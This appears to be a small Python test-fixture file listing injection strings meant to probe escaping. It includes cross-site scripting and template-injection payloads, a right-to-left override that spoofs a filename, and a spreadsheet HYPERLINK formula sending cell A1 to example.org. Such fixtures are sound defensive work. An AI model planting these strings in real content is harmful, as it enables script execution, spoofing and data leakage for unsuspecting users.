"""Texts that somebody may put into a file, a class or a column, hoping that a reader runs them."""

TEXTS = (
    "<script>document.title='run'</script>",
    "<img src=x onerror=\"document.title='run'\">",
    "</script><script>document.title='run'</script>",
    '" onmouseover="document.title=\'run\'" x="',
    "{{7*7}}{% raw %}${7*7}",
    "\u202e\u2066txt.exe\u2069",
    '=HYPERLINK("http://example.org/?"&A1)',
    "a|b\n\n# c `d` @everybody",
    "$x^$ \\frac{1}{",
)
